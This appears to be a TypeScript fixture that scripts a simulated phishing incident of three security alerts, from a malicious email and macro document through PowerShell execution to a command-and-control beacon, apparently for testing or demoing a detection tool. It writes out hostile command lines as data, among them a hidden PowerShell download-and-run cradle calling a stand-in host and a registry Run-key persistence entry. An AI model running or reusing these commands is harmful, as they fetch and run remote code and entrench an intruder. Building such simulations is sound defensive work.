import type { Story } from "./story.ts";

const OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16";
const POWERSHELL = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
const RECOMMENDED =
  "Isolate the device, reset the password of the person who opened the document, and look for the same message in other mailboxes.";

/** A mail with a document, a macro, PowerShell, and a beacon that answers. */
export const PHISHING: Story = {
  name: "Multi-stage incident involving Initial access & Command and control on one endpoint",
  alerts: [
    {
      title: "Email messages containing malicious file removed after delivery",
      description:
        "A message with a malicious document was delivered and was taken out of two of three mailboxes.",
      ...{ severity: "Informational", category: "InitialAccess", source: "MicrosoftDefenderForOffice365" },
      ...{ at: 0, mitre: ["T1566.001"], investigation: "PartiallyInvestigated" },
      evidence: [
        {
          ...{ kind: "other", type: "analyzedMessage", verdict: "malicious", remediation: "remediated" },
          facts: {
            networkMessageId: "4d0c5e0e-71f5-4a3f-9c0b-08dcf1a2b3c4",
            internetMessageId: "<20261121071502.8812@mail.lieferung-dhl.example>",
            subject: "Missed delivery: ward 3, please confirm the address",
            p1Sender: { emailAddress: "bounce@lieferung-dhl.example", domainName: "lieferung-dhl.example" },
            p2Sender: { emailAddress: "service@dhl.example", displayName: "DHL Service" },
            recipientEmailAddress: "m.keller@contoso.example",
            senderIp: "203.0.113.77",
            urls: ["https://lieferung-dhl.example/track?id=88120"],
            deliveryAction: "deliveredToJunk",
            deliveryLocation: "junkFolder",
            threats: ["Malware", "Phish"],
            attachmentsCount: 1,
          },
        },
        {
          ...{ kind: "other", type: "mailCluster", remediation: "pendingApproval" },
          facts: {
            clusterBy: "Subject;SenderIp;ContentType",
            clusterByValue: "Missed delivery: ward 3;203.0.113.77;1",
            emailCount: 3,
            query: '(Subject:"Missed delivery: ward 3, please confirm the address")',
            networkMessageIds: ["4d0c5e0e-71f5-4a3f-9c0b-08dcf1a2b3c4"],
          },
        },
        { kind: "user", account: "m.keller", roles: ["Recipient"] },
      ],
    },
    {
      title: "Suspicious PowerShell command line",
      description:
        "A document started PowerShell, which loaded a script from the internet and hid its window.",
      ...{ severity: "High", category: "Execution", source: "WindowsDefenderAtp", at: 14 },
      ...{ mitre: ["T1059.001", "T1204.002", "T1105"], recommended: RECOMMENDED, owner: "carla.weiss" },
      devices: [{ name: "ward5-nurse02", roles: ["PrimaryDevice"] }],
      evidence: [
        {
          ...{
            kind: "process",
            pid: 9120,
            parent: 4388,
            parentImage: "C:\\Windows\\explorer.exe",
            start: 12.1,
          },
          ...{ image: `${OFFICE}\\WINWORD.EXE`, account: "m.keller", verdict: "noThreatsFound" },
          ...{
            line: `"WINWORD.EXE" /n "C:\\Users\\m.keller\\Downloads\\Delivery_88120.docm" /o ""`,
            signer: "Microsoft Corporation",
          },
        },
        {
          ...{
            kind: "process",
            pid: 11_304,
            parent: 9120,
            start: 12.6,
            image: "C:\\Windows\\System32\\cmd.exe",
          },
          ...{
            line: 'cmd.exe /c start /min powershell -w hidden -ep bypass -f "%TEMP%\\u.ps1"',
            account: "m.keller",
          },
        },
        {
          ...{
            kind: "process",
            pid: 11_388,
            parent: 11_304,
            start: 12.7,
            image: POWERSHELL,
            account: "m.keller",
          },
          line: "powershell  -w hidden -ep bypass -c \"IEX(New-Object Net.WebClient).DownloadString('https://cdn-upd.bad.example/a/u.ps1')\"",
          ...{ verdict: "malicious", remediation: "active" },
        },
        {
          ...{ kind: "file", path: "C:\\Users\\m.keller\\Downloads\\Delivery_88120.docm", size: 84_213 },
          ...{
            verdict: "malicious",
            remediation: "remediated",
            remediationDetails: "Quarantined 3 min after it was opened.",
          },
        },
        { kind: "url", url: "https://cdn-upd.bad.example/a/u.ps1", verdict: "malicious" },
        { kind: "user", account: "m.keller", roles: ["Compromised"] },
      ],
    },
    {
      title: "Connection to a known command-and-control address",
      description: "An injected process calls the same address every 60 seconds.",
      ...{ severity: "High", category: "CommandAndControl", source: "WindowsDefenderAtp", at: 19 },
      ...{ mitre: ["T1071.001", "T1055"], family: "Bruteratel", recommended: RECOMMENDED },
      devices: [{ name: "ward5-nurse02", roles: ["PrimaryDevice"] }],
      evidence: [
        {
          ...{ kind: "process", pid: 11_820, parent: 11_388, parentImage: POWERSHELL, start: 16.2 },
          ...{ image: "C:\\Windows\\System32\\rundll32.exe", account: "m.keller", verdict: "malicious" },
          ...{
            line: "rundll32.exe C:\\Users\\m.keller\\AppData\\Local\\Temp\\msdt.dll,Control_RunDLL",
            remediation: "active",
          },
        },
        {
          kind: "file",
          path: "C:\\Users\\m.keller\\AppData\\Local\\Temp\\msdt.dll",
          size: 412_672,
          verdict: "malicious",
        },
        { kind: "ip", address: "198.51.100.23", country: "NL", verdict: "malicious" },
        {
          ...{ kind: "other", type: "networkConnection", verdict: "malicious" },
          facts: {
            ...{ sourceAddress: { ipAddress: "10.20.10.13" }, sourcePort: 51_822, protocol: "tcp" },
            ...{ destinationAddress: { ipAddress: "198.51.100.23" }, destinationPort: 443 },
          },
        },
        { kind: "other", type: "dns", facts: { domainName: "cdn-upd.bad.example" } },
        {
          ...{ kind: "registry", hive: "HKEY_CURRENT_USER", name: "OneDriveSync" },
          ...{ key: "Software\\Microsoft\\Windows\\CurrentVersion\\Run" },
          value: "rundll32.exe C:\\Users\\m.keller\\AppData\\Local\\Temp\\msdt.dll,Control_RunDLL",
        },
      ],
    },
  ],
};
